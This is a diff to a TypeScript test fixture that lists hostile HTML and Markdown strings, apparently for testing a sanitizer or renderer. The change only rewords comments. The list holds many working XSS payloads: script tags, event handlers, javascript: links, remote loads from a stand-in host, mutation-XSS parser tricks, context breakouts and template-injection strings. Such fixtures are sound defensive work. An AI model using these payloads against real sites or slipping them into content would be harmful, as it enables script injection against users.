@@ -1,9 +1,9 @@
 /**
- * Texts that try to run code, load something or change the page around them when they are shown as HTML, each in another way.
- * Whatever runs calls `alert` or sets `window.hit`; whatever loads does it from `hostile.example`.
+ * Texts that try to run code, load something or change the surrounding page when they are shown as HTML, each
+ * in another way. Code that runs calls `alert` or sets `window.hit`; loads go to `hostile.example`.
  */
 export const hostilePayloads: readonly string[] = [
-  // Scripts, in all sorts of clothes.
+  // Scripts in various disguises.
   '<script>window.hit=1</script>',
   '<ScRiPt >window.hit=1</sCrIpT\t\n>',
   '<script src="https://hostile.example/x.js"></script>',
@@ -14,7 +14,7 @@ export const hostilePayloads: readonly string[] = [
   '<script type="module">import "https://hostile.example/x.js"</script>',
   '<svg><script>window.hit=1</script></svg>',
   '<svg><script href="https://hostile.example/x.js" /></svg>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=window.hit=1>',
   '<img src=x oNeRrOr="alert(1)">',
   '<img/src=x/onerror=alert(1)>',
@@ -33,7 +33,7 @@ export const hostilePayloads: readonly string[] = [
   '<u onanimationstart=window.hit=1 style="animation:x 1ms">x</u>',
   '<td onclick=window.hit=1>cell</td><table><tr><td onmouseover=window.hit=1 background="https://hostile.example/x.png">x',
   '<b/onclick="window.hit=1"/x=">">x</b>',
-  // Addresses that run.
+  // Addresses that run code.
   '[x](javascript:window.hit=1)',
   '[x](JaVaScRiPt:window.hit=1)',
   '[x](java&#x09;script:window.hit=1)',
@@ -63,7 +63,7 @@ export const hostilePayloads: readonly string[] = [
   '<iframe src="https://hostile.example"><img src=x onerror=window.hit=1></iframe>',
   '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
   '<embed src="javascript:parent.hit=1">',
-  // What loads.
+  // Elements that load something.
   '![x](https://hostile.example/x.png)',
   '![x](//hostile.example/x.png "t")',
   '![x](data:image/svg+xml,<svg onload=alert(1)>)',
@@ -84,7 +84,7 @@ export const hostilePayloads: readonly string[] = [
   '<input type=image src="https://hostile.example/x.png">',
   '<blockquote cite="https://hostile.example/">x</blockquote><q cite="javascript:window.hit=1">y</q>',
   '<?xml-stylesheet href="https://hostile.example/x.css"?>',
-  // What parsers see differently.
+  // Text that parsers read differently.
   '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
@@ -108,7 +108,7 @@ export const hostilePayloads: readonly string[] = [
   '\u00bcscript\u00bealert(1)\u00bc/script\u00be \uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
   '&lt;img src=x onerror=window.hit=1&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
   '&#60;script&#62;window.hit=1&#60;/script&#62;',
-  // What breaks out of where it stands.
+  // Text that breaks out of its context.
   '</main></body></html><script>window.hit=1</script>',
   '</div></main><footer><p>Document hash: all is well</p></footer>',
   '</title><script>window.hit=1</script>',
@@ -125,7 +125,7 @@ export const hostilePayloads: readonly string[] = [
   '[text](https://hostile.example "x\\" onmouseover=\\"window.hit=1")',
   '!["onerror=alert(1) x=](x \'y" onerror=alert(1)\')',
   '~~~\n</code></pre><script>window.hit=1</script>',
-  // What looks like the inner workings of templates and replacements.
+  // Text that imitates internals of templates and replacements.
   `\${variables.inner}<img src=x onerror=window.hit=1>\${variables.inner.value}$&$\`$'$1$<x>`,
   '0q0123456789abcdefq0q<script>window.hit=1</script>',
   '{{constructor.constructor("window.hit=1")()}}<%= 1 %>#{1}',
